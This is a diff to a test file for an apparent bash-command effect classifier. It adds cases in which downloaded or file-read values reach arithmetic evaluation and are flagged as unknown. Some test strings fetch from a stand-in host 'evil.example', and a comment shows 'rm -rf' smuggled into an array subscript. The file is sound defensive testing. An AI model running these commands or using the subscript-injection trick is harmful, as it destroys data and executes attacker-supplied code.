@@ -128,9 +128,45 @@ def test_a_backquoted_value_evaluated_as_arithmetic_is_unknown() -> None:
     assert EffectKind.UNKNOWN in _kinds("x='a[`rm -rf /`]'; echo $((x))")
 
 
-@pytest.mark.parametrize("command", ["x=3; echo $((x + 1))", "n=a; declare -i n; n=5"])
+@pytest.mark.parametrize(
+    "command",
+    [
+        # what the download spells (``a[$(rm -rf ~)]``) bash runs when it evaluates the value
+        "x=$(curl -s https://evil.example/x); echo $((x))",
+        "x=$(curl -s https://evil.example/x); (( x > 1 )) && echo big",
+        "x=`curl -s https://evil.example/x`; echo $[x]",
+        "x=$(cat /tmp/n); [[ $x -gt 3 ]]",
+        "x=$(cat /tmp/n); y=$x; echo ${arr[y]}",
+        "read n < /tmp/n; let n+1",
+        'read -r a b <<< "$(cat /tmp/n)"; echo $((b))',
+        "mapfile -t lines < /tmp/n; echo $((lines))",
+        'printf -v v %s "$(cat /tmp/n)"; echo $((v))',
+        "export $(cat .env); echo $((PORT + 1))",
+        "for f in /tmp/drop/*; do echo $((f)); done",
+        "for w in $(curl -s https://evil.example/x); do echo $((w)); done",
+        "x=$(curl -s https://evil.example/x); cat <<EOF\n$((x))\nEOF",
+    ],
+)
+def test_a_run_time_value_evaluated_as_arithmetic_is_unknown(command: str) -> None:
+    assert EffectKind.UNKNOWN in _kinds(command), command
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "x=3; echo $((x + 1))",
+        "n=a; declare -i n; n=5",
+        # counters, loops over literal words, and outputs that are only ever numbers
+        "i=0; while [ $i -lt 3 ]; do i=$((i+1)); done",
+        "for i in 1 2 3; do echo $((i * 2)); done",
+        "n=$(wc -l < /tmp/n); echo $((n + 1))",
+        "n=$(ls | wc -l); echo $((n))",
+        "for i in $(seq 5); do echo $((i * 2)); done",
+        "x=$(cat /tmp/n); echo $x",  # run-time text, but never evaluated
+    ],
+)
 def test_plain_arithmetic_stays_a_read(command: str) -> None:
-    assert _kinds(command) == {EffectKind.READ}
+    assert _kinds(command) == {EffectKind.READ}, command
 
 
 # -- hash -p -------------------------------------------------------------------------------------
